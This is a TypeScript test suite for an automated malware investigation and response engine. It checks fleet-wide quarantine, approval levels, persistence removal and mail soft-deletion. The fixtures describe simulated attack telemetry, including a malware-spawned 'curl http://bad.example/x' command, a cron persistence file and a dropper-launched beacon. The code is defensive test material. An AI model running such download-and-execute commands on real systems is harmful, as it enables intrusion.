import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DAY, EVIL_SHA, OTHER_SHA, fileRow, harness, malwareAlert, processRow, raise, type Harness } from './response-helpers.js';

async function seedFleet(h: Harness) {
  await h.store.telemetry.append('DeviceFileEvents', 's', [
    fileRow('dev1', '/tmp/evil.elf'),
    fileRow('dev2', '/home/bob/Downloads/evil.elf'),
    fileRow('dev3', '/usr/local/bin/evil.elf'),
    fileRow('dev4', '/tmp/benign.sh', OTHER_SHA),
  ]);
}

async function succeedAll(h: Harness, deviceId: string) {
  for (const c of await h.response.commands.poll(deviceId, 0)) {
    await h.response.commands.report(deviceId, c.id, { status: 'succeeded', output: { sha256: EVIL_SHA } });
  }
}

test('full automation: the malicious file is quarantined fleet-wide at once; completion resolves the alert', async () => {
  const h = await harness({ levels: { dev1: 'full', dev2: 'full', dev3: 'full' } });
  try {
    await seedFleet(h);
    const alert = malwareAlert('dev1', '/tmp/evil.elf');
    await raise(h, alert);
    const [inv] = await h.response.investigations.list({ alertId: alert.alertId });
    assert.equal(inv.status, 'running');
    const targets = inv.actions.map((a) => `${a.kind} ${a.target} ${a.params.path} ${a.state}`).sort();
    assert.deepEqual(targets, [
      'quarantine_file dev1 /tmp/evil.elf dispatched',
      'quarantine_file dev2 /home/bob/Downloads/evil.elf dispatched',
      'quarantine_file dev3 /usr/local/bin/evil.elf dispatched',
    ]);
    assert.deepEqual(inv.entities.filter((e) => e.kind === 'device').map((e) => `${e.key}:${e.verdict}`).sort(), ['dev1:malicious', 'dev2:malicious', 'dev3:malicious']);
    for (const d of ['dev1', 'dev2']) await succeedAll(h, d);
    assert.equal((await h.response.investigations.get(inv.id))?.status, 'running');
    assert.deepEqual(h.resolved, []);
    await succeedAll(h, 'dev3');
    const done = await h.response.investigations.get(inv.id);
    assert.equal(done?.status, 'remediated');
    assert.equal(done?.alertsResolved, true);
    assert.deepEqual(h.resolved, [{ alertIds: [alert.alertId], by: 'automatedInvestigation' }]);
    assert.ok(done?.log.some((l) => l.message.startsWith('completed as remediated (3 succeeded)')));
  } finally {
    await h.close();
  }
});

test('semi (all folders): every remediation waits; one rejected leaves the investigation partially remediated and the alert open', async () => {
  const h = await harness(); // no level known: semi_all by default
  try {
    await seedFleet(h);
    const alert = malwareAlert('dev1', '/tmp/evil.elf');
    await raise(h, alert);
    const [inv] = await h.response.investigations.list({ alertId: alert.alertId });
    assert.equal(inv.status, 'pendingAction');
    assert.deepEqual(inv.actions.map((a) => a.state), ['pendingApproval', 'pendingApproval', 'pendingApproval']);
    assert.deepEqual(await h.response.commands.poll('dev1', 0), []);
    const byDevice = Object.fromEntries(inv.actions.map((a) => [a.target, a.id]));
    await h.response.actions.approve([byDevice.dev1, byDevice.dev2], { id: 'user:r', name: 'responder' });
    await h.response.actions.reject([byDevice.dev3], { id: 'user:r', name: 'responder' }, 'build server, known tool');
    await succeedAll(h, 'dev1');
    await succeedAll(h, 'dev2');
    const done = await h.response.investigations.get(inv.id);
    assert.equal(done?.status, 'partiallyRemediated');
    assert.deepEqual(h.resolved, []);
  } finally {
    await h.close();
  }
});

test('semi (core folders): approval in OS folders only', async () => {
  const h = await harness({ levels: { dev1: 'semi_core', dev5: 'semi_core' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/home/a/evil.elf'), fileRow('dev5', '/usr/bin/evil.elf')]);
    await raise(h, malwareAlert('dev1', '/home/a/evil.elf'));
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => `${a.target} ${a.state}`).sort(), ['dev1 dispatched', 'dev5 pendingApproval']);
  } finally {
    await h.close();
  }
});

test('semi (non-temp folders): automatic in temp and downloads folders only', async () => {
  const h = await harness({ levels: { dev1: 'semi_non_temp', dev2: 'semi_non_temp', dev6: 'semi_non_temp' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [
      fileRow('dev1', '/tmp/evil.elf'), fileRow('dev2', 'C:\\Users\\bob\\Downloads\\evil.exe'), fileRow('dev6', '/opt/app/evil.elf'),
    ]);
    await raise(h, malwareAlert('dev1', '/tmp/evil.elf'));
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => `${a.target} ${a.state}`).sort(), ['dev1 dispatched', 'dev2 dispatched', 'dev6 pendingApproval']);
  } finally {
    await h.close();
  }
});

test('no automated response: no investigation runs for the device, and devices at that level get no actions', async () => {
  const h = await harness({ levels: { dev1: 'none', dev2: 'full', dev3: 'none' } });
  try {
    await seedFleet(h);
    await raise(h, malwareAlert('dev1', '/tmp/evil.elf'));
    assert.deepEqual(await h.response.investigations.list(), []);
    assert.deepEqual(await h.response.actions.list(), []);
    // Raised on dev2 (full), the same file on dev1 and dev3 (none) is not touched.
    await raise(h, malwareAlert('dev2', '/home/bob/Downloads/evil.elf'));
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => a.target), ['dev2']);
    assert.ok(inv.log.some((l) => l.message === 'quarantine_file on dev3 not proposed: the device group has no automated response'));
  } finally {
    await h.close();
  }
});

test('a suspicious verdict waits for approval even under full automation', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/odd.sh')]);
    await raise(h, malwareAlert('dev1', '/tmp/odd.sh', { category: 'SuspiciousActivity', severity: 'medium', detectionSource: 'sigma' }));
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => `${a.verdict} ${a.state} ${a.decisionReason}`), ['suspicious pendingApproval a suspicious verdict always waits for approval']);
  } finally {
    await h.close();
  }
});

test('alerts that do not call for an investigation start none', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    await raise(h, malwareAlert('dev1', '/tmp/x', { category: 'InitialAccess', severity: 'medium', detectionSource: 'sigma' }));
    await raise(h, malwareAlert('dev1', '/tmp/x', { category: 'Discovery', severity: 'high', detectionSource: 'customDetection' }));
    assert.deepEqual(await h.response.investigations.list(), []);
  } finally {
    await h.close();
  }
});

test('evidence: the process that ran it is stopped, its suspicious child waits, persistence it wrote is removed, peers and mail are listed', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    h.response.registerActionKind({
      kind: 'soft_delete', targetType: 'email', description: 'soft delete', validate: (p) => (p ?? {}) as Record<string, unknown>,
      execute: async () => ({ state: 'succeeded' }),
    });
    await h.store.telemetry.append('DeviceFileEvents', 's', [
      fileRow('dev1', '/tmp/evil.elf'),
      fileRow('dev1', '/etc/cron.d/evil', 'c'.repeat(64), { InitiatingProcessSHA256: EVIL_SHA }),
    ]);
    await h.store.telemetry.append('DeviceProcessEvents', 's', [
      processRow('dev1', { FileName: 'evil.elf', FolderPath: '/tmp/evil.elf', SHA256: EVIL_SHA, ProcessId: 4242, InitiatingProcessId: 100, InitiatingProcessFileName: 'bash' }),
      processRow('dev1', { FileName: 'curl', FolderPath: '/usr/bin/curl', SHA256: 'd'.repeat(64), ProcessId: 4300, InitiatingProcessId: 4242, ProcessCommandLine: 'curl http://bad.example/x' }),
    ]);
    await h.store.telemetry.append('DeviceNetworkEvents', 's', [{
      Timestamp: new Date().toISOString(), DeviceId: 'dev1', ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.9', RemotePort: 443,
      RemoteUrl: 'bad.example', InitiatingProcessSHA256: EVIL_SHA, ReportId: 9001,
    }]);
    await h.store.telemetry.append('EmailAttachmentInfo', 'mail', [{
      Timestamp: new Date().toISOString(), NetworkMessageId: 'nm-1', SenderFromAddress: 'Eve@Bad.example', RecipientEmailAddress: 'Alice@corp.example',
      FileName: 'evil.elf', SHA256: EVIL_SHA, ReportId: 9002,
    }]);
    const alert = malwareAlert('dev1', '/tmp/evil.elf', {
      evidence: [
        { kind: 'device', key: 'dev1', label: 'host-dev1', role: 'Impacted' },
        { kind: 'file', key: EVIL_SHA, label: 'evil.elf', role: 'Related', details: { sha256: EVIL_SHA, path: '/tmp/evil.elf' } },
        { kind: 'process', key: 'dev1:4242', label: 'evil.elf', role: 'Related', details: { pid: 4242, sha256: EVIL_SHA, path: '/tmp/evil.elf' } },
      ],
    });
    await raise(h, alert);
    const [inv] = await h.response.investigations.list();
    const actions = inv.actions.map((a) => `${a.kind} ${a.target} ${JSON.stringify(a.params)} ${a.state}`).sort();
    assert.deepEqual(actions, [
      `quarantine_file dev1 {"path":"/tmp/evil.elf","sha256":"${EVIL_SHA}"} dispatched`,
      'remove_persistence dev1 {"path":"/etc/cron.d/evil"} dispatched',
      'soft_delete nm-1 {"recipients":["alice@corp.example"]} pendingApproval',
      `stop_process dev1 {"pid":4300,"sha256":"${'d'.repeat(64)}"} pendingApproval`,
      `stop_process dev1 {"sha256":"${EVIL_SHA}"} dispatched`,
    ]);
    const entities = inv.entities.map((e) => `${e.kind}:${e.key}:${e.verdict}`).sort();
    assert.deepEqual(entities, [
      'device:dev1:malicious',
      `file:${EVIL_SHA}:malicious`,
      'ip:203.0.113.9:suspicious',
      'mailMessage:nm-1:malicious',
      'persistence:/etc/cron.d/evil:malicious',
      'process:dev1:4300:suspicious',
      'sender:eve@bad.example:suspicious',
      'url:bad.example:suspicious',
    ]);
    assert.ok(inv.log.some((l) => l.message === 'process 4242 (evil.elf) was started by bash (pid 100)'));
  } finally {
    await h.close();
  }
});

test('a second alert about the same file joins the open investigation; the incident link finds it', async () => {
  const h = await harness({ levels: { dev1: 'full', dev2: 'full' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/evil.elf'), fileRow('dev2', '/tmp/evil.elf')]);
    const first = malwareAlert('dev1', '/tmp/evil.elf');
    const second = malwareAlert('dev2', '/tmp/evil.elf');
    await raise(h, first);
    await h.bus.publish('alert.updated', { alertId: second.alertId, incidentId: 'inc-7', changes: {} });
    await raise(h, second);
    const all = await h.response.investigations.list();
    assert.equal(all.length, 1);
    assert.deepEqual([...all[0].alertIds].sort(), [first.alertId, second.alertId].sort());
    const byIncident = await h.response.investigations.list({ incidentId: 'inc-7' });
    assert.deepEqual(byIncident.map((i) => i.id), [all[0].id]);
    await succeedAll(h, 'dev1');
    await succeedAll(h, 'dev2');
    assert.deepEqual(h.resolved.map((r) => [...r.alertIds].sort()), [[first.alertId, second.alertId].sort()]);
  } finally {
    await h.close();
  }
});

test('pending investigation actions that lapse after 7 days complete the investigation as not remediated', async () => {
  const h = await harness();
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/evil.elf')]);
    await raise(h, malwareAlert('dev1', '/tmp/evil.elf'));
    h.clock.now += 7 * DAY;
    assert.deepEqual(await h.response.sweep(), { expired: 1, timedOut: 0, recovered: 0 });
    const [inv] = await h.response.investigations.list();
    assert.equal(inv.status, 'partiallyRemediated');
    assert.deepEqual(h.resolved, []);
  } finally {
    await h.close();
  }
});

test('copies the antivirus already quarantined are not quarantined again; the rest of the fleet is, then the alert resolves', async () => {
  const h = await harness({ levels: { dev1: 'full', dev2: 'full' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/evil.elf'), fileRow('dev2', '/tmp/evil.elf')]);
    const alert = malwareAlert('dev1', '/tmp/evil.elf', {
      severity: 'medium',
      evidence: [
        { kind: 'device', key: 'dev1', label: 'host-dev1', role: 'Impacted' },
        { kind: 'file', key: EVIL_SHA, label: 'evil.elf', role: 'Related', details: { sha256: EVIL_SHA, folderPath: '/tmp/evil.elf', fileName: 'evil.elf', action: 'quarantined' } },
      ],
    });
    await raise(h, alert);
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => `${a.kind} ${a.target}`), ['quarantine_file dev2']);
    assert.ok(inv.log.some((l) => l.message === '/tmp/evil.elf on dev1: already quarantined by the antivirus'));
    await succeedAll(h, 'dev2');
    assert.equal((await h.response.investigations.get(inv.id))?.status, 'remediated');
    assert.deepEqual(h.resolved.map((r) => r.alertIds), [[alert.alertId]]);
  } finally {
    await h.close();
  }
});

test('an antivirus detection already quarantined everywhere completes at once as remediated', async () => {
  const h = await harness({ levels: { dev1: 'semi_all' } });
  try {
    const row = {
      Timestamp: new Date().toISOString(), DeviceId: 'dev1', ActionType: 'AntivirusDetection', FileName: 'evil.elf', FolderPath: '/tmp/evil.elf',
      SHA256: EVIL_SHA, AdditionalFields: { ThreatName: 'EICAR', Engine: 'eicar', Action: 'quarantined' }, ReportId: 7001,
    };
    await h.store.telemetry.append('DeviceEvents', 's', [row]);
    const alert = malwareAlert('dev1', '/tmp/evil.elf', { severity: 'medium', events: [{ table: 'DeviceEvents', reportId: 7001, sensorId: 's', row }] });
    await raise(h, alert);
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions, []);
    assert.equal(inv.status, 'remediated');
    assert.deepEqual(h.resolved.map((r) => r.alertIds), [[alert.alertId]]);
  } finally {
    await h.close();
  }
});

test('malicious mail without an email executor leaves the investigation not fully remediated', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/evil.elf')]);
    await h.store.telemetry.append('EmailAttachmentInfo', 'mail', [{
      Timestamp: new Date().toISOString(), NetworkMessageId: 'nm-9', SenderFromAddress: 'eve@bad.example', RecipientEmailAddress: 'bob@corp.example',
      FileName: 'evil.elf', SHA256: EVIL_SHA, ReportId: 9100,
    }]);
    await raise(h, malwareAlert('dev1', '/tmp/evil.elf'));
    await succeedAll(h, 'dev1');
    const [inv] = await h.response.investigations.list();
    assert.equal(inv.status, 'partiallyRemediated');
    assert.deepEqual(h.resolved, []);
  } finally {
    await h.close();
  }
});

test('a mail detection proposes soft deletion of the message it names, waiting for approval', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    h.response.registerActionKind({
      kind: 'soft_delete', targetType: 'email', description: 'soft delete', validate: (p) => (p ?? {}) as Record<string, unknown>,
      execute: async () => ({ state: 'succeeded' }),
    });
    const alert = malwareAlert('dev1', '/tmp/x', {
      detectionSource: 'mail', evidence: [
        { kind: 'mailbox', key: 'alice@corp.example', label: 'alice@corp.example', role: 'Impacted' },
        { kind: 'mailMessage', key: 'nm-42', label: 'Invoice overdue', role: 'Related', details: { recipient: 'Alice@corp.example' } },
      ],
    });
    await raise(h, alert);
    const [inv] = await h.response.investigations.list();
    assert.deepEqual(inv.actions.map((a) => `${a.kind} ${a.target} ${JSON.stringify(a.params)} ${a.state}`), ['soft_delete nm-42 {"recipients":["alice@corp.example"]} pendingApproval']);
    await h.response.actions.approve([inv.actions[0].id], { id: 'user:r', name: 'r' });
    assert.equal((await h.response.investigations.get(inv.id))?.status, 'remediated');
    assert.deepEqual(h.resolved.map((r) => r.alertIds), [[alert.alertId]]);
  } finally {
    await h.close();
  }
});

/** A sigma alert on dev1's second stage, started by an interpreter running a dropper script from Downloads. */
function droppedStageAlert() {
  const row = processRow('dev1', {
    FileName: '.stage2', FolderPath: '/tmp/.stage2', SHA256: OTHER_SHA, ProcessId: 30, ProcessCommandLine: "/tmp/.stage2 -c 'beacon'",
    InitiatingProcessId: 29, InitiatingProcessCommandLine: '/bin/bash /home/a/Downloads/drop',
  });
  return malwareAlert('dev1', '/tmp/.stage2', {
    category: 'Execution', severity: 'high', detectionSource: 'sigma', events: [{ table: 'DeviceProcessEvents', reportId: row.ReportId, sensorId: 's', row }],
  }, OTHER_SHA);
}

test('the script an interpreter ran joins the investigation even when its file event arrives after the alert', async () => {
  const h = await harness({ levels: { dev1: 'full' } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/.stage2', OTHER_SHA)]);
    const alert = droppedStageAlert();
    await h.bus.publish('alert.raised', { alert });
    // The agent reports the script's file once its writes settle: after the process it started.
    await new Promise((resolve) => setTimeout(resolve, 300));
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/home/a/Downloads/drop')]);
    await h.bus.drain();
    const [inv] = await h.response.investigations.list({ alertId: alert.alertId });
    const quarantined = inv.actions.filter((a) => a.kind === 'quarantine_file').map((a) => `${a.params.path} ${a.params.sha256}`).sort();
    assert.deepEqual(quarantined, [`/home/a/Downloads/drop ${EVIL_SHA}`, `/tmp/.stage2 ${OTHER_SHA}`]);
  } finally {
    await h.close();
  }
});

test('a script the device never reports as a file is named in the log, not guessed at', async () => {
  const h = await harness({ levels: { dev1: 'full' }, extra: { scriptFileWaitMs: 150 } });
  try {
    await h.store.telemetry.append('DeviceFileEvents', 's', [fileRow('dev1', '/tmp/.stage2', OTHER_SHA)]);
    const alert = droppedStageAlert();
    await raise(h, alert);
    const [inv] = await h.response.investigations.list({ alertId: alert.alertId });
    assert.deepEqual(inv.actions.filter((a) => a.kind === 'quarantine_file').map((a) => a.params.path), ['/tmp/.stage2']);
    assert.ok(inv.log.some((l) => l.message === "script /home/a/Downloads/drop, run by the alert's processes, was not reported by the device as a file within 150 ms: it is not part of this investigation"));
  } finally {
    await h.close();
  }
});
